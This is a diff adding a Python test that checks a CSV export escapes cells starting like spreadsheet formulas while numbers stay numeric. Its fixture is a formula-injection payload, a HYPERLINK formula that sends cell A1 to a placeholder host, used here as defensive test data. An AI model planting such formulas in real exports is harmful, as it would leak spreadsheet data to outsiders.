@@ -73,3 +73,31 @@ def test_csv_tables_open_in_spreadsheets(extract):
     figures = list(csv.DictReader(io.StringIO(export.figures_csv(articles).decode("utf-8-sig"))))
     assert {r["article_id"] for r in figures} == {"a"}
     assert any(r["kind"] == "budget" and float(r["value"]) == 1_500_000_000 for r in figures)
+
+
+def test_a_formula_in_a_title_outlet_or_actor_is_text_in_the_csv(build_kb):
+    """A seed (from anyone's pull request) whose title, outlet or actor starts like a
+    spreadsheet formula: the built data/*.csv shows the text, quoted so that no
+    spreadsheet runs it; numbers stay numbers; the JSON keeps the value as written."""
+    formula = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'
+    seed = ("---\n"
+            f"title: '{formula.replace(chr(39), chr(39) * 2)}'\n"
+            "outlet: '+62 Berita'\n"
+            "actors:\n  - name: '@Dinkes Sigi'\n    type: pemerintah-kabupaten-kota\n"
+            "---\n" + SIGI)
+    output, _, data = build_kb({"a.txt": seed, "b.txt": "-" + KUKAR})
+    assert data["articles"][0]["title"] == formula  # the data keeps what the curator wrote
+    rows = list(csv.DictReader(io.StringIO((output / "data" / "articles.csv").read_text(encoding="utf-8-sig"))))
+    by_id = {r["id"]: r for r in rows}
+    assert by_id["a"]["title"] == "'" + formula
+    assert by_id["a"]["outlet"] == "'+62 Berita"
+    assert by_id["a"]["actors"] == "'@Dinkes Sigi"
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+    figures = list(csv.DictReader(io.StringIO((output / "data" / "figures.csv").read_text(encoding="utf-8-sig"))))
+    assert any(r["kind"] == "budget" and float(r["value"]) == 1_500_000_000 for r in figures)  # still a number
+    assert all(not r["value"].startswith("'") for r in figures)
+    for cell in ("-1", "@x", "\tx", "\rx", "+x"):
+        assert export.spreadsheet_safe(cell) == "'" + cell
+    assert export.spreadsheet_safe(-1.5) == -1.5 and export.spreadsheet_safe("Kader") == "Kader"
